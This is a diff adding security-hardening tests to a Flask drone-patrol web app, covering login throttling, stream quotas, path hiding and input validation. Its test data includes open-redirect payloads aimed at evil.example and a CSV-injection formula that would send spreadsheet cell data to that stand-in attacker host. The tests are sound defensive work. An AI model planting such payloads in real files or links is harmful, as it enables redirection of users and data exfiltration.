@@ -2,25 +2,40 @@
 
 from __future__ import annotations
 
+import copy
+import csv
+import io
 import json
 import math
 import stat
+import threading
 import time
+import urllib.error
+import urllib.request
 from pathlib import Path
 
 import pytest
 from flask import Flask
-from support import TEST_PASSWORD_COST, wait_until
+from support import (
+    REPORT_DAY,
+    REPORT_NETWORK,
+    TEST_PASSWORD_COST,
+    seed_report_day,
+    served_app,
+    wait_until,
+)
 
 from dronepatrol.accounts import AccountService, Role
+from dronepatrol.accounts import service as account_service
 from dronepatrol.accounts.passwords import DEFAULT_LOG2_N, hash_password
 from dronepatrol.database import make_engine, upgrade
 from dronepatrol.events import Event, EventKind
 from dronepatrol.mavlink.tlog import TlogWriter
+from dronepatrol.network import parse_network
 from dronepatrol.records.archive import SortieRecord, SortieSummary
 from dronepatrol.settings import Settings
 from dronepatrol.web import create_app
-from dronepatrol.web.security import LoginThrottle, safe_next
+from dronepatrol.web.security import LoginThrottle, reserve_threads, safe_next
 from dronepatrol.web.sorties import without_server_paths
 from dronepatrol.web.stream import encode
 
@@ -37,6 +52,10 @@ from dronepatrol.web.stream import encode
         "/\\\\evil.example",
         "https://evil.example/",
         "javascript:alert(1)",
+        "/.//evil.example",
+        "/./\t/evil.example",
+        "/a/..//evil.example",
+        "/%2E//evil.example",
         "evil.example",
         "",
         None,
@@ -145,6 +164,22 @@ def test_one_account_cannot_hold_every_stream(app: Flask, token_for) -> None:
 # ------------------------------------------------------------------ sizes
 
 
+def test_a_video_long_poll_takes_one_of_the_account_s_stream_slots(app: Flask, token_for) -> None:
+    """Each Janus long poll holds a server thread for up to 35 s; they were uncounted, so
+    one viewer could hold every thread with sessions of their own."""
+    viewer = app.extensions["dronepatrol"].accounts.get_user("viewer")
+    app.extensions["janus_sessions"].add(4242, viewer.id)
+    quota = app.extensions["dronepatrol_streams"]
+    for _ in range(quota.per_user):
+        assert quota.acquire("viewer")
+    answer = app.test_client().get("/video/janus/4242?maxev=1", headers=token_for("viewer"))
+    assert answer.status_code == 429 and "live streams" in answer.get_json()["message"]
+    quota.release("viewer")
+    answer = app.test_client().get("/video/janus/4242?maxev=1", headers=token_for("viewer"))
+    assert answer.status_code == 503  # let through; no media server runs in this test
+    assert quota.open_count("viewer") == quota.per_user - 1  # its slot given back
+
+
 def test_a_huge_sign_in_is_refused_before_it_is_read(client) -> None:
     body = json.dumps({"username": "admin", "password": "x" * 100_000})
     started = time.monotonic()
@@ -228,6 +263,40 @@ def test_sortie_answers_carry_file_names_not_server_paths() -> None:
 # ------------------------------------------------------------------ headers and cookies
 
 
+def test_a_video_stream_s_status_names_its_recording_not_where_the_server_keeps_it(
+    app: Flask, token_for
+) -> None:
+    """``GET /video/<id>/status`` passed the pipeline's dict on whole: the recording's
+    absolute path and the encoder's internal RTP address with it."""
+    buffer = app.extensions["video"].ensure("1", "Copter-1")
+    source = {"name": "sim", "connected": True, "frames": 3, "reconnects": 0, "last_error": None}
+    publisher = {"url": "rtp://127.0.0.1:5004", "frames": 3, "bitrate_bps": 9000, "dropped": 0}
+    buffer.status_source = lambda: {
+        "source": source,
+        "frames_in": 3,
+        "frames_skipped": 0,
+        "recording": "/srv/dronepatrol/recordings/sortie-7-Copter-1.mp4",
+        "recording_dropped": 0,
+        "stage_ms": {"detect": 1.5},
+        "tracks": 0,
+        "publisher": publisher,
+    }
+    client = app.test_client()
+    for path in ("/video/1/status", "/video/"):
+        answer = client.get(path, headers=token_for("viewer"))
+        assert answer.status_code == 200
+        assert "/srv" not in answer.text and "rtp:" not in answer.text
+    status = client.get("/video/1/status", headers=token_for("viewer")).get_json()
+    assert status["pipeline"]["recording"] == "sortie-7-Copter-1.mp4"
+    assert status["pipeline"]["publisher"]["frames"] == 3
+
+
+def test_the_video_json_routes_answer_errors_in_json_to_a_browser(app: Flask, browser_as) -> None:
+    """The video player reads the error's message; a browser asking once got an HTML page."""
+    answer = browser_as("viewer").get("/video/nobody/player", headers={"Accept": "text/html"})
+    assert answer.status_code == 404 and "no video stream" in answer.get_json()["message"]
+
+
 def test_pages_forbid_inline_script(app: Flask, browser_as) -> None:
     response = browser_as("viewer").get("/")
     policy = response.headers["Content-Security-Policy"]
@@ -248,8 +317,9 @@ def test_secure_cookie_setting_marks_the_session_cookie(tmp_path: Path, password
         "/login", data={"username": "v", "password": password, "csrf_token": "t"}
     )
     app.extensions["dronepatrol"].stop()
-    cookie = response.headers["Set-Cookie"]
-    assert "Secure" in cookie and "HttpOnly" in cookie
+    cookies = response.headers.getlist("Set-Cookie")
+    assert {c.split("=", 1)[0] for c in cookies} == {"session", "dp_device"}
+    assert all("Secure" in cookie and "HttpOnly" in cookie for cookie in cookies)
     assert "Strict-Transport-Security" in response.headers
 
 
@@ -292,6 +362,87 @@ def test_admin_signs_in_from_elsewhere_while_one_address_guesses(app: Flask, pas
         admin.post("/api/login", json={"username": "admin", "password": password}).status_code
         == 200
     )
+
+
+def test_a_neighbour_guessing_cannot_lock_out_a_browser_signed_in_from_before(
+    app: Flask, password: str
+) -> None:
+    """Everyone behind one address (a NAT, or a proxy without ``proxy_hops``) once waited
+    out each guess someone else made at admin's password: up to 5 min a guess, for ever."""
+    admin = app.test_client()
+    admin.environ_base["REMOTE_ADDR"] = "127.0.0.2"
+    right = {"username": "admin", "password": password}
+    assert admin.post("/api/login", json=right).status_code == 200
+    assert admin.get_cookie("dp_device").http_only
+    neighbour = app.test_client()
+    neighbour.environ_base["REMOTE_ADDR"] = "127.0.0.2"
+    for _ in range(8):
+        neighbour.post("/api/login", json={"username": "admin", "password": "wrong-guess"})
+    assert neighbour.post("/api/login", json=right).status_code == 429
+    assert admin.post("/api/login", json=right).status_code == 200
+
+    # the marker is signed and names its user: one made up, or a viewer's, trusts nobody
+    viewer = app.test_client()
+    viewer.environ_base["REMOTE_ADDR"] = "127.0.0.4"
+    viewer.post("/api/login", json={"username": "viewer", "password": password})
+    for value in (viewer.get_cookie("dp_device").value, "forged", ""):
+        neighbour.set_cookie("dp_device", value)
+        assert neighbour.post("/api/login", json=right).status_code == 429
+
+    # guessing from a trusted browser slows that browser down like any other client
+    for _ in range(8):
+        admin.post("/api/login", json={"username": "admin", "password": "wrong-guess"})
+    assert admin.post("/api/login", json=right).status_code == 429
+
+
+def test_the_login_form_marks_the_browser_trusted_too(app: Flask, password: str) -> None:
+    browser = app.test_client()
+    with browser.session_transaction() as session:
+        session["csrf"] = "t"
+    form = {"username": "admin", "password": password, "csrf_token": "t", "next": "/"}
+    assert browser.post("/login", data=form).status_code == 302
+    cookie = browser.get_cookie("dp_device")
+    assert cookie.http_only and cookie.same_site == "Strict"
+
+
+def test_passwords_are_checked_a_few_at_a_time_and_the_rest_told_to_retry(
+    app: Flask, password: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Each check at OWASP's cost takes 128 MiB: 16 sign-ins for unknown names at once took
+    the server from 0.17 to 2.0 GiB, and its 160 workers could have asked for 20 GiB."""
+    room = app.extensions["dronepatrol"]
+    room.accounts = AccountService(
+        room.engine, password_log2_n=int(TEST_PASSWORD_COST), parallel_hashes=1, hash_wait_s=0.2
+    )
+    hashing, finish = threading.Semaphore(0), threading.Event()
+    check = account_service.verify_password
+
+    def held_check(typed: str, stored: str) -> bool:
+        hashing.release()
+        finish.wait(10)
+        return check(typed, stored)
+
+    monkeypatch.setattr(account_service, "verify_password", held_check)
+    right = {"username": "admin", "password": password}
+    first: list[int] = []
+    signing_in = threading.Thread(
+        target=lambda: first.append(app.test_client().post("/api/login", json=right).status_code)
+    )
+    signing_in.start()
+    assert hashing.acquire(timeout=10)  # the first sign-in is checking its password
+    busy = app.test_client().post("/api/login", json={"username": "nobody", "password": "x"})
+    assert busy.status_code == 503 and busy.headers["Retry-After"] == "2"
+    assert "try again" in busy.get_json()["message"]
+    browser = app.test_client()
+    with browser.session_transaction() as session:
+        session["csrf"] = "t"
+    form = {"username": "nobody", "password": "x", "csrf_token": "t", "next": "/"}
+    page = browser.post("/login", data=form)
+    assert page.status_code == 503 and b"try again" in page.data  # the sign-in page, saying so
+    finish.set()
+    signing_in.join(10)
+    assert first == [200]
+    assert app.test_client().post("/api/login", json=right).status_code == 200
 
 
 # ------------------------------------------------------------------ password hashes
@@ -355,3 +506,145 @@ def test_json_nested_50000_deep_is_400(app: Flask, token_for, path: str) -> None
         path, data=deep, content_type="application/json", headers=token_for("admin")
     )
     assert response.status_code == 400
+
+
+# ------------------------------------------------------------------ query strings
+
+
+@pytest.mark.parametrize(
+    "path",
+    ["/api/incidents", "/api/vehicles", "/api/lockdown", "/api/large-events", "/api/me", "/video/"],
+)
+def test_a_parameter_no_route_reads_is_400_not_ignored(app: Flask, token_for, path: str) -> None:
+    """``GET /api/incidents?status=open`` answered every incident, as if filtered."""
+    viewer = token_for("viewer")
+    response = app.test_client().get(f"{path}?status=open", headers=viewer)
+    assert response.status_code == 400
+    assert "'status'" in response.get_json()["message"]
+    assert app.test_client().get(path, headers=viewer).status_code == 200
+
+
+def test_an_unread_parameter_still_hears_401_and_403_first(app: Flask, token_for) -> None:
+    client = app.test_client()
+    assert client.get("/api/incidents?status=open").status_code == 401
+    viewer = token_for("viewer")
+    assert client.post("/api/incidents?x=1", json={}, headers=viewer).status_code == 403
+    assert client.get("/api/sorties?limit=5", headers=viewer).status_code == 200  # it reads one
+
+
+# ------------------------------------------------------------------ downloads
+
+
+def test_the_day_report_csv_never_hands_a_spreadsheet_a_formula(app: Flask, token_for) -> None:
+    """A target named ``=HYPERLINK(...)`` in a network or event file became a live formula
+    in the commander's spreadsheet (OWASP's CSV injection)."""
+    network = copy.deepcopy(REPORT_NETWORK)
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "@SUM(1+1)", "+1+cmd", "-2+3"]
+    targets = [f for f in network["features"] if f["properties"]["kind"] != "station"]
+    for feature, name in zip(targets, hostile, strict=False):
+        feature["properties"]["name"] = name
+    room = app.extensions["dronepatrol"]
+    room.network, issues = parse_network(network)
+    assert not issues
+    seed_report_day(room.engine)
+    query = f"date={REPORT_DAY}&tz=%2B08:00"
+    answer = app.test_client().get(f"/api/reports/day.csv?{query}", headers=token_for("viewer"))
+    rows = list(csv.DictReader(io.StringIO(answer.get_data(as_text=True))))
+    names = {r["name"] for r in rows if r["level"] == "target"}
+    assert names == {"'" + name for name in hostile[: len(targets)]}
+    assert all(not v.startswith(("=", "+", "@")) for r in rows for v in r.values())
+    assert any(r["on_time_rate"] for r in rows)  # figures stay figures
+
+
+def test_the_video_relay_takes_a_janus_request_s_own_fields_only(app: Flask, browser_as) -> None:
+    """The relay to the media server read its body by hand and dropped what it did not
+    know; now a field it does not take is named in a 400, as everywhere else."""
+    viewer = browser_as("viewer")
+    extra = viewer.post(
+        "/video/janus", json={"janus": "create", "transaction": "t", "apisecret": 1}
+    )
+    assert extra.status_code == 400 and "'apisecret'" in extra.get_json()["message"]
+    typed = viewer.post("/video/janus", json={"janus": "create", "transaction": 7})
+    assert typed.status_code == 400 and "'transaction'" in typed.get_json()["message"]
+    broken = viewer.post("/video/janus", data="{", content_type="application/json")
+    assert broken.status_code == 400
+    right = viewer.post("/video/janus", json={"janus": "create", "transaction": "t"})
+    assert right.status_code == 503  # let through: no media server runs in this test
+
+
+def test_a_lockdown_s_names_are_a_few_words_not_a_document(app: Flask, token_for) -> None:
+    """A 5 MB lockdown name reached the hold incidents' notes and failed there: a 500."""
+    operator = token_for("operator")
+    point = {"id": "gate", "lat": -35.36, "lon": 149.16}
+    for body, field in (
+        ({"name": "N" * 5_000_000, "points": [point]}, "'name'"),
+        ({"name": "exits", "points": [{**point, "id": "I" * 101}]}, "'points.0.id'"),
+        ({"name": "exits", "points": [{**point, "name": "x" * 101}]}, "'points.0.name'"),
+        ({"plan": "P" * 101}, "'plan'"),
+    ):
+        answer = app.test_client().post("/api/lockdown", json=body, headers=operator)
+        assert answer.status_code == 400 and field in answer.get_json()["message"], field
+    many = [{**point, "id": f"p{k}"} for k in range(1001)]
+    answer = app.test_client().post(
+        "/api/lockdown", json={"name": "exits", "points": many}, headers=operator
+    )
+    assert answer.status_code == 400 and "'points'" in answer.get_json()["message"]
+    assert app.test_client().get("/api/lockdown", headers=operator).get_json()["lockdown"] is None
+
+
+def test_error_answers_keep_their_headers_and_json_on_the_video_relay(
+    app: Flask, browser_as
+) -> None:
+    """A 405 lost its Allow header in the JSON error; an unmatched relay path was a page."""
+    viewer = browser_as("viewer")
+    answer = viewer.delete("/api/me")
+    assert answer.status_code == 405 and set(answer.headers["Allow"].split(", ")) >= {"GET"}
+    assert answer.get_json()["error"] == "Method Not Allowed"
+    answer = viewer.get("/video/janus/-1?maxev=1", headers={"Accept": "text/html"})
+    assert answer.status_code == 404 and answer.is_json
+
+
+def test_many_accounts_cannot_hold_every_server_thread_either(app: Flask, token_for) -> None:
+    """Each account's cap is 8 streams, but 20 accounts held all of serve's 160 threads."""
+    assert reserve_threads(app, 160) == 140
+    assert reserve_threads(app, 8) == 4
+    quota = app.extensions["dronepatrol_streams"]
+    reserve_threads(app, 6)  # 2 streams at most
+    for account in ("commander", "operator"):
+        assert quota.acquire(account)
+    client = app.test_client()
+    refused = client.get("/api/events", headers=token_for("viewer"))
+    assert refused.status_code == 503 and "live streams open" in refused.get_json()["message"]
+    assert client.get("/api/health").status_code == 200
+    quota.release("operator")
+    flowing = client.get("/api/events", headers=token_for("viewer"), buffered=False)
+    assert flowing.status_code == 200
+    flowing.close()
+    assert quota.open_count("viewer") == 0
+
+
+def test_serve_keeps_threads_free_for_requests_whatever_streams_are_open(tmp_path: Path) -> None:
+    """Served with 8 threads, 8 event streams of 4 accounts left /api/health unanswered."""
+    admin_password = "hardening-admin-1"
+    with served_app(tmp_path, admin_password, "--threads", "8", "--schedule", "off") as base:
+        login = urllib.request.Request(
+            f"{base}/api/login",
+            data=json.dumps({"username": "admin", "password": admin_password}).encode(),
+            headers={"Content-Type": "application/json"},
+        )
+        with urllib.request.urlopen(login, timeout=30) as answer:
+            token = json.load(answer)["token"]
+        events = urllib.request.Request(
+            f"{base}/api/events", headers={"Authorization": f"Bearer {token}"}
+        )
+        streams = [urllib.request.urlopen(events, timeout=30) for _ in range(4)]
+        try:
+            with pytest.raises(urllib.error.HTTPError) as refused:
+                urllib.request.urlopen(events, timeout=30)
+            refused.value.close()
+            assert refused.value.code == 503
+            with urllib.request.urlopen(f"{base}/api/health", timeout=10) as health:
+                assert health.status == 200
+        finally:
+            for stream in streams:
+                stream.close()
